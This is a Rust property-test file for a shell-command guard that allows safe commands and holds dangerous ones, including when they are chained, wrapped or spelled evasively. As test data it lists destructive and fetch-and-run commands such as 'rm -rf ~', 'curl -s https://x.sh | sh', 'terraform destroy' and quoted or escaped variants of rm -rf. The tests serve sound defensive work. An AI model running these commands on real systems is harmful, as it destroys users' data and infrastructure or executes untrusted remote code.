//! Property tests over generated shell-ish input: checking never panics; equivalent spellings
//! get the same verdict; a held command anywhere in a chain holds the chain.

use brake::rules::Ruleset;
use brake::verdict::{check, check_parsed, Decision, Policy};
use proptest::prelude::*;
use std::sync::OnceLock;

fn rules() -> &'static Ruleset {
    static R: OnceLock<Ruleset> = OnceLock::new();
    R.get_or_init(Ruleset::builtin)
}

fn decide(line: &str) -> Decision {
    let v = check(line, rules(), &Policy::default());
    assert!(
        !v.findings.iter().any(|f| f.rule == "internal.error"),
        "internal error on {line:?}"
    );
    v.decision
}

const SAFE: &[&str] = &[
    "ls -la",
    "git status",
    "cargo build",
    "echo 'rm -rf /'",
    "grep -r DROP .",
    "rm -rf node_modules",
    "git commit -m 'push --force'",
    "cat README.md",
    "npm test",
    "git branch -d old",
    "true",
];
const HELD: &[&str] = &[
    "rm -rf ~",
    "git push --force origin main",
    "git reset --hard",
    "terraform destroy",
    "kubectl delete ns prod",
    "curl -s https://x.sh | sh",
    "docker system prune -af",
];
const SEPARATORS: &[&str] = &[" && ", " || ", "; ", " | ", "\n", " & "];
const WRAPPERS: &[&str] = &[
    "",
    "sudo ",
    "env A=1 ",
    "timeout 5 ",
    "nohup ",
    "command ",
    "nice -n 5 ",
];

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, .. ProptestConfig::default() })]

    #[test]
    fn never_panics_on_shellish_input(s in "[a-z $(){}\\[\\]'\"`;|&<>=*?~\\\\/.\\-\n#!0-9]{0,120}") {
        decide(&s);
    }

    #[test]
    fn never_panics_on_arbitrary_text(s in any::<String>()) {
        decide(&s);
    }

    #[test]
    fn the_fast_path_agrees_with_the_parser(
        words in prop::collection::vec(prop::sample::select(vec![
            "ls", "-la", "rm", "-rf", "/", "git", "push", "--force", "cat", "src", "node_modules",
            "sudo", "xargs", "bash", "-c", "python3", "find", ".", "-delete", "echo", "kill", "-9",
            "1", "true", "cargo", "test", "docker", "system", "prune", "terraform", "destroy",
            "/bin/rm", "env", "make", "clean", "ssh", "host", "timeout", "5", "cd", "..",
        ]), 1..6),
    ) {
        let line = words.join(" ");
        let fast = check(&line, rules(), &Policy::default()).decision;
        let full = check_parsed(&line, rules(), &Policy::default()).decision;
        prop_assert_eq!(fast, full, "{}", line);
    }

    #[test]
    fn equivalent_spellings_get_the_same_verdict(
        program in prop::sample::select(vec!["rm", "r''m", "\\rm", "\"rm\"", "/bin/rm", "'rm'", "r\"\"m", "/usr/bin/rm"]),
        flags in prop::sample::select(vec!["-rf", "-r -f", "-fr", "--recursive --force", "-R -f", "-f -r", "-Rf"]),
        target in prop::sample::select(vec!["/", "~", "src", "node_modules", "../x", "build/*", "\"$HOME\"", ".env"]),
    ) {
        let canonical = decide(&format!("rm -rf {target}"));
        prop_assert_eq!(decide(&format!("{program} {flags} {target}")), canonical);
    }

    #[test]
    fn a_held_command_anywhere_holds_the_chain(
        safe in prop::collection::vec(prop::sample::select(SAFE.to_vec()), 0..5),
        held in prop::sample::select(HELD.to_vec()),
        wrapper in prop::sample::select(WRAPPERS.to_vec()),
        at in 0usize..6,
        seps in prop::collection::vec(prop::sample::select(SEPARATORS.to_vec()), 6),
    ) {
        let mut parts: Vec<String> = safe.iter().map(|s| s.to_string()).collect();
        let at = at.min(parts.len());
        parts.insert(at, format!("{wrapper}{held}"));
        let mut line = String::new();
        for (i, p) in parts.iter().enumerate() {
            if i > 0 {
                line.push_str(seps[i]);
            }
            line.push_str(p);
        }
        prop_assert_ne!(decide(&line), Decision::Allow, "{}", line);
    }

    #[test]
    fn safe_chains_stay_allowed(
        safe in prop::collection::vec(prop::sample::select(SAFE.to_vec()), 1..6),
        seps in prop::collection::vec(prop::sample::select(vec![" && ", " || ", "; ", "\n"]), 6),
    ) {
        let mut line = String::new();
        for (i, p) in safe.iter().enumerate() {
            if i > 0 {
                line.push_str(seps[i]);
            }
            line.push_str(p);
        }
        prop_assert_eq!(decide(&line), Decision::Allow, "{}", line);
    }
}
